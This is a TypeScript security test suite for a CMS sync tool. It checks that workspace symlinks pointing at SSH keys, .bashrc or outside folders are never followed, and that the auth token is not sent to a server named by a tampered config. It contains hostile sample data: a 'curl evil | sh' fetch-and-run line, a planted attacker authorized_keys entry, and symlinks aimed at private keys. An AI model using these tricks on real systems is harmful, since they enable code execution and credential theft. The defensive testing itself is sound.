// Symbolic links in the workspace, and the token against a changed cms-sync.yaml (issue 14 items
// 1-4; docs/reliability.md "Attacks on the workspace"). A link anywhere in the workspace is never
// followed: a kind folder linked to `~/.ssh`, a linked subfolder of media/, a tracked file replaced
// by a link to a file outside, a link to a file inside; media.yaml, cms-sync.lock, cms-sync.yaml,
// .cmsyncignore and .cms-sync as links. The token goes only to the server the workspace is bound
// to. Each scenario checksums a sentinel tree around the workspace (where the links point) before
// and after, and checks that neither side lost anything.

import { createHash } from 'node:crypto'
import { mkdir, mkdtemp, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterEach, describe, expect, test } from 'vitest'
import { type Emulator, startEmulator } from '../../src/emulator/index.js'
import { createMediaApi, type MediaApi } from '../../src/remote/media.js'
import { type CountingProxy, startCountingProxy } from '../helpers/counting-proxy.js'
import { contentFile } from '../helpers/fixtures.js'
import { startWorld, type World, writeConfig } from '../helpers/sync-world.js'
import { runCli } from './processes.js'
import { filesUnder, report } from './support.js'

const ALL = ['schemas', 'content', 'media']
const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nnot for any server\n-----END OPENSSH PRIVATE KEY-----\n'
const BASHRC = '# ~/.bashrc: executed by bash(1) for non-login shells.\n'
const sha = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex')
const json = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`

interface Around {
  /** The folder the workspace lives in. */
  dir: string
  /** Its files other than the workspace's (links listed, never followed), to compare. */
  snapshot(): Promise<Map<string, string>>
}

/** Files beside the workspace that the links point at: ~/.ssh, another checkout, a shell start-up file. */
async function sentinel(w: World): Promise<Around> {
  const dir = path.dirname(w.root)
  const files: Record<string, string> = {
    'sentinel/ssh/id_ed25519': KEY,
    'sentinel/ssh/config': 'Host *\n  IdentitiesOnly yes\n',
    'sentinel/other/page.json': json(contentFile('page', { properties: { title: 'from another checkout' } })),
    'sentinel/other/news.json': json(contentFile('news', { properties: { title: 'outside news' } })),
    'sentinel/home/.bashrc': BASHRC,
    'sentinel/state/state.json': '{"not":"ours"}\n',
  }
  for (const [rel, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true })
    await writeFile(path.join(dir, rel), text)
  }
  const site = path.basename(w.root)
  return { dir, snapshot: () => filesUnder(dir, (rel) => rel === site || rel.startsWith(`${site}/`)) }
}

/** Someone else uploads a media item (from a temp file away from the sentinel tree). */
async function uploadRemote(api: MediaApi, name: string, folder: string, text: string): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'cms-sync-upload-'))
  const file = path.join(dir, name)
  await writeFile(file, text)
  const { id } = await api.upload({ path: file, size: Buffer.byteLength(text), name })
  await api.move(id, folder)
  await rm(dir, { recursive: true, force: true })
  return id
}

/** Every schema and content, and every media item with the hash of its bytes. */
async function serverAll(w: World, api: MediaApi): Promise<Record<string, unknown>> {
  const media: Record<string, string> = {}
  for (const item of await api.list()) {
    const bytes = Buffer.from(
      await (await fetch(`${w.emulator.url}/media/demo/live/${item.id}`)).arrayBuffer(),
    )
    media[item.id] = `${item.folder}/${item.name} ${sha(bytes)}`
  }
  return { ...(await w.serverState()), media }
}

/** `path: error` of each failed item of a --json run (status: each problem). */
function failedOf(run: {
  json?: { failed?: { path: string; error: string }[]; problems?: { path?: string; problems: string[] }[] }
}): string {
  return [
    ...(run.json?.failed ?? []).map((f) => `${f.path}: ${f.error}`),
    ...(run.json?.problems ?? []).map((p) => `${p.path}: ${p.problems.join('; ')}`),
  ].join('\n')
}

/** Moves a workspace file or folder away (to put it back later), out of the sentinel tree. */
async function moveAway(w: World, rel: string, keep: string): Promise<string> {
  const to = path.join(keep, rel.replaceAll('/', '__'))
  await rename(w.file(rel), to)
  return to
}

describe.each(['spec', 'upstream'] as const)('symbolic links in the workspace (%s dialect)', (dialect) => {
  let world: World | undefined
  const closers: (() => Promise<void>)[] = []
  afterEach(async () => {
    for (const close of closers.splice(0)) await close()
    await world?.close()
    world = undefined
  })

  async function synced(): Promise<{ w: World; api: MediaApi; logo: string; keep: string }> {
    const w = await startWorld(dialect, { resources: ALL })
    world = w
    const api = createMediaApi(w.server)
    const logo = await uploadRemote(api, 'logo.png', '/images/', 'PNG bytes of the logo')
    const first = await w.cli('sync')
    expect(first.exitCode, first.stderr).toBe(0)
    const keep = await mkdtemp(path.join(tmpdir(), 'cms-sync-kept-'))
    closers.push(() => rm(keep, { recursive: true, force: true }))
    return { w, api, logo, keep }
  }

  test('item 1: a kind folder linked out (`media -> ~/.ssh`, `content -> ../other`) is neither uploaded nor written through', async () => {
    const { w, api, logo, keep } = await synced()
    const around = await sentinel(w)
    const content = await moveAway(w, 'content', keep)
    const media = await moveAway(w, 'media', keep)
    await symlink('../sentinel/other', w.file('content'))
    await symlink(path.join(around.dir, 'sentinel', 'ssh'), w.file('media'))
    // The server moves on meanwhile: a pull must not write either change through the links.
    await w.setContent('home', { properties: { title: 'edited on the server' } })
    const added = await uploadRemote(api, 'new.txt', '/', 'new on the server')
    const before = { outside: await around.snapshot(), server: await serverAll(w, api) }
    const files = await filesUnder(w.root, (rel) => rel.startsWith('.cms-sync'))
    for (const command of ['push', 'sync', 'pull', 'status']) {
      const run = await w.cli('--json', command)
      const said = `${command}: ${run.stderr}${run.stdout}`
      expect(run.exitCode, said).toBe(1)
      const failed = failedOf(run)
      expect(failed, said).toMatch(/^content: not synced: a symbolic link/m)
      expect(failed, said).toMatch(/^media: not synced: a symbolic link/m)
      if (command !== 'status') expect(run.json.applied, said).toEqual([])
      expect(await serverAll(w, api), said).toEqual(before.server)
      expect(await around.snapshot(), said).toEqual(before.outside)
      expect(await filesUnder(w.root, (rel) => rel.startsWith('.cms-sync')), said).toEqual(files)
    }
    // The folders back in place, the next sync brings the server's changes and loses nothing.
    await rm(w.file('content'))
    await rm(w.file('media'))
    await rename(content, w.file('content'))
    await rename(media, w.file('media'))
    const after = await w.cli('sync')
    expect(after.exitCode, after.stderr + after.stdout).toBe(0)
    expect((await w.readJson('content/home.json')).properties).toMatchObject({
      title: 'edited on the server',
    })
    expect(await readFile(w.file('media/new.txt'), 'utf8')).toBe('new on the server')
    expect(await readFile(w.file('media/images/logo.png'), 'utf8')).toBe('PNG bytes of the logo')
    const server = await serverAll(w, api)
    expect(server).toEqual(before.server)
    expect(Object.keys(server.media as object).sort()).toEqual([added, logo].sort())
    expect(await around.snapshot()).toEqual(before.outside)
    report(`attacks/linked-kind-folder/${dialect}`, { links: 2, uploaded: 0, writtenOutside: 0, lost: 0 })
  })

  test('item 1: a linked media subfolder, tracked files replaced by links, a link inside: skipped both ways, not deleted', async () => {
    const { w, api, logo, keep } = await synced()
    // A server item named like local junk (the walk skips such names unless tracked).
    const notes = await uploadRemote(api, 'notes.tmp', '/', 'notes kept on the server\n')
    expect((await w.cli('sync')).exitCode).toBe(0)
    const around = await sentinel(w)
    const news = await moveAway(w, 'content/news.json', keep)
    const notesFile = await moveAway(w, 'media/notes.tmp', keep)
    await symlink(path.join(around.dir, 'sentinel', 'ssh', 'config'), w.file('media/notes.tmp'))
    const logoFile = await moveAway(w, 'media/images/logo.png', keep)
    await symlink(path.join(around.dir, 'sentinel', 'other', 'news.json'), w.file('content/news.json'))
    await symlink(path.join(around.dir, 'sentinel', 'ssh', 'id_ed25519'), w.file('media/images/logo.png'))
    await symlink(path.join(around.dir, 'sentinel', 'ssh'), w.file('media/keys'))
    await symlink('home.json', w.file('content/alias.json'))
    // The server edits the item behind one link and adds a media item in the linked folder's place.
    await w.setContent('news', { properties: { title: 'edited on the server' } })
    const planted = await uploadRemote(api, 'authorized_keys', '/keys/', 'ssh-ed25519 AAAA attacker\n')
    const before = { outside: await around.snapshot(), server: await serverAll(w, api) }
    const files = await filesUnder(w.root, (rel) => rel.startsWith('.cms-sync'))
    for (const command of ['push', 'sync', 'pull']) {
      const run = await w.cli('--json', command)
      const said = `${command}: ${run.stderr}${run.stdout}`
      expect(run.exitCode, said).toBe(1)
      const failed = failedOf(run)
      for (const rel of [
        'content/news.json',
        'content/alias.json',
        'media/images/logo.png',
        'media/keys',
        'media/notes.tmp',
      ])
        expect(failed, said).toMatch(new RegExp(`^${rel}: not synced: a symbolic link`, 'm'))
      expect(run.json.applied, said).toEqual([])
      expect(await serverAll(w, api), said).toEqual(before.server)
      expect(await around.snapshot(), said).toEqual(before.outside)
      expect(await filesUnder(w.root, (rel) => rel.startsWith('.cms-sync')), said).toEqual(files)
    }
    const status = await w.cli('--json', 'status')
    expect(status.json.changes.filter((c: { action: string }) => c.action.startsWith('delete'))).toEqual([])
    // Links replaced by the files again: the server's edit and its new item come down, nothing lost.
    for (const rel of [
      'content/news.json',
      'content/alias.json',
      'media/images/logo.png',
      'media/keys',
      'media/notes.tmp',
    ])
      await rm(w.file(rel))
    await rename(news, w.file('content/news.json'))
    await rename(notesFile, w.file('media/notes.tmp'))
    await rename(logoFile, w.file('media/images/logo.png'))
    const after = await w.cli('sync')
    expect(after.exitCode, after.stderr + after.stdout).toBe(0)
    expect((await w.readJson('content/news.json')).properties).toMatchObject({
      title: 'edited on the server',
    })
    const server = await serverAll(w, api)
    expect(server).toEqual(before.server)
    expect(Object.keys(server.media as object).sort()).toEqual([logo, notes, planted].sort())
    expect(await around.snapshot()).toEqual(before.outside)
    report(`attacks/linked-files/${dialect}`, { links: 5, uploaded: 0, writtenOutside: 0, deleted: 0 })
  })

  test('items 1-2: media.yaml, cms-sync.lock, cms-sync.yaml, .cmsyncignore as links outside: refused, nothing written', async () => {
    const { w, api } = await synced()
    const around = await sentinel(w)
    // The server has news for every run that would go through: a new media name, an edit.
    await uploadRemote(api, 'evil.sh', '/', 'curl evil | sh\n')
    await w.setContent('home', { properties: { title: 'edited on the server' } })
    await writeFile(w.file('.cmsyncignore'), '# nothing ignored\n')
    const server = await serverAll(w, api)
    const copies = path.join(around.dir, 'sentinel', 'copies')
    await mkdir(copies)
    for (const name of ['media.yaml', 'cms-sync.lock', 'cms-sync.yaml', '.cmsyncignore']) {
      // media.yaml points at a shell start-up file (a crafted media name there runs as code);
      // the others at a copy of themselves, which following would read without complaint.
      const target =
        name === 'media.yaml' ? path.join(around.dir, 'sentinel', 'home', '.bashrc') : path.join(copies, name)
      const original = await readFile(w.file(name))
      if (name !== 'media.yaml') await writeFile(target, original)
      await rm(w.file(name))
      await symlink(target, w.file(name))
      const outside = await around.snapshot()
      const files = await filesUnder(w.root)
      for (const command of ['sync', 'pull', 'push', 'status']) {
        const run = await w.cli(command)
        const said = `${name}, ${command}: ${run.stderr}${run.stdout}`
        expect(run.exitCode, said).toBe(2)
        expect(run.stderr, said).toContain(`${name}: a symbolic link`)
        expect(await around.snapshot(), said).toEqual(outside)
        expect(await filesUnder(w.root), said).toEqual(files)
        expect(await serverAll(w, api), said).toEqual(server)
      }
      await rm(w.file(name))
      await writeFile(w.file(name), original)
      if (name !== 'media.yaml') await rm(target)
    }
    expect(await readFile(path.join(around.dir, 'sentinel', 'home', '.bashrc'), 'utf8')).toBe(BASHRC)
    const after = await w.cli('sync')
    expect(after.exitCode, after.stderr + after.stdout).toBe(0)
    expect(await readFile(w.file('media/evil.sh'), 'utf8')).toBe('curl evil | sh\n')
    expect(await serverAll(w, api)).toEqual(server)
    report(`attacks/linked-own-files/${dialect}`, { files: 4, refused: 16, writtenOutside: 0 })
  })

  test('item 3: a committed .cms-sync link (or a link inside it) is refused before anything is written', async () => {
    const { w, api } = await synced()
    const around = await sentinel(w)
    await w.setContent('home', { properties: { title: 'edited on the server' } })
    await w.editJson('content/news.json', { properties: { title: 'edited here' } })
    const server = await serverAll(w, api)
    const state = await moveAway(w, '.cms-sync', await mkdtemp(path.join(tmpdir(), 'cms-sync-state-')))
    // A clone whose commit holds `.cms-sync -> ../sentinel/state` (a folder outside), then one
    // whose link points at nothing yet (a run would create it), then a link inside a real .cms-sync.
    const cases: [string, () => Promise<void>][] = [
      ['.cms-sync', () => symlink('../sentinel/state', w.file('.cms-sync'))],
      ['.cms-sync', () => symlink('../sentinel/made-by-cms-sync', w.file('.cms-sync'))],
      [
        '.cms-sync/logs',
        async () => {
          await mkdir(w.file('.cms-sync'))
          await symlink(path.join(around.dir, 'sentinel', 'state'), w.file('.cms-sync/logs'))
        },
      ],
    ]
    for (const [link, make] of cases) {
      await make()
      const outside = await around.snapshot()
      const files = await filesUnder(w.root)
      for (const command of ['sync', 'pull', 'push', 'status', 'diff']) {
        const run = await w.cli(command)
        const said = `${link}, ${command}: ${run.stderr}${run.stdout}`
        expect(run.exitCode, said).toBe(2)
        expect(run.stderr, said).toContain(`${link}: a symbolic link`)
        expect(await around.snapshot(), said).toEqual(outside)
        expect(await filesUnder(w.root), said).toEqual(files)
        expect(await serverAll(w, api), said).toEqual(server)
      }
      // The shipped program, and watch, which would otherwise run on.
      for (const command of ['sync', 'watch']) {
        const child = runCli(['-C', w.root, command], w.env)
        const timer = setTimeout(() => child.child.kill('SIGKILL'), 20_000)
        const done = await child.done
        clearTimeout(timer)
        expect(done.code, `${link}, built ${command}: ${done.stderr}`).toBe(2)
        expect(done.stderr).toContain(`${link}: a symbolic link`)
        expect(await around.snapshot()).toEqual(outside)
        expect(await filesUnder(w.root)).toEqual(files)
      }
      await rm(w.file('.cms-sync'), { recursive: true })
    }
    await rename(state, w.file('.cms-sync'))
    const after = await w.cli('sync')
    expect(after.exitCode, after.stderr + after.stdout).toBe(0)
    expect((await w.readJson('content/home.json')).properties).toMatchObject({
      title: 'edited on the server',
    })
    const news = await w.server.get('content', 'news')
    expect((news?.properties as { title?: string } | undefined)?.title).toBe('edited here')
    report(`attacks/linked-state-folder/${dialect}`, { cases: cases.length, refused: cases.length * 7 })
  })

  test('item 4: the token never goes to a server that a changed cms-sync.yaml names', async () => {
    const w = await startWorld(dialect, { resources: ['schemas', 'content'] })
    world = w
    expect((await w.cli('sync')).exitCode).toBe(0)
    const around = await sentinel(w)
    const outside = await around.snapshot()
    // A second emulator behind a proxy that keeps every request's headers: the thief.
    const thief: Emulator = await startEmulator({ port: 0, dialect })
    const proxy: CountingProxy = await startCountingProxy(thief.url)
    closers.push(async () => {
      await proxy.close()
      await thief.close()
    })
    const heard: string[] = []
    proxy.override = (method, route, headers) => {
      heard.push(`${method} ${route} ${JSON.stringify(headers)}`)
      return undefined
    }
    // One token for every run (each call of emulator.token() issues a new one).
    const env = w.env
    const token = env.CMS_SYNC_TOKEN!
    const leaked = () => heard.filter((line) => line.includes(token))
    // A commit changes only the server in cms-sync.yaml.
    await writeConfig(w.root, proxy.url, dialect)
    const runs: [string[], number][] = [
      [['sync'], 4],
      [['pull'], 4],
      [['push'], 4],
      [['status'], 4],
      [['diff'], 4],
      [['whoami'], 4],
      [['server-config', 'get', 'sync'], 4],
      [['doctor'], 1],
    ]
    const files = await filesUnder(w.root, (rel) => rel.startsWith('.cms-sync/logs'))
    for (const [args, code] of runs) {
      const run = await runCli(['-C', w.root, ...args], env).done
      const said = `${args.join(' ')}: ${run.stderr}${run.stdout}`
      expect(run.code, said).toBe(code)
      expect(`${run.stderr}${run.stdout}`, said).toMatch(/bound to/)
      expect(leaked(), said).toEqual([])
    }
    // A fresh clone of that commit: cms-sync.lock binds it all the same.
    await rm(w.file('.cms-sync'), { recursive: true })
    const clone = await runCli(['-C', w.root, 'sync'], env).done
    expect(clone.code, clone.stderr).toBe(4)
    expect(leaked()).toEqual([])
    expect(await filesUnder(w.root, (rel) => rel.startsWith('.cms-sync'))).toEqual(
      new Map([...files].filter(([rel]) => !rel.startsWith('.cms-sync'))),
    )
    expect(await around.snapshot()).toEqual(outside)
    // The user's own --rebind is what sends it there (the guard is not a blanket block).
    const rebind = await runCli(['-C', w.root, 'sync', '--rebind'], env).done
    expect(leaked().length, rebind.stderr).toBeGreaterThan(0)
    report(`attacks/token-to-changed-server/${dialect}`, { commands: runs.length + 1, tokenSeen: 0 })
  })
})
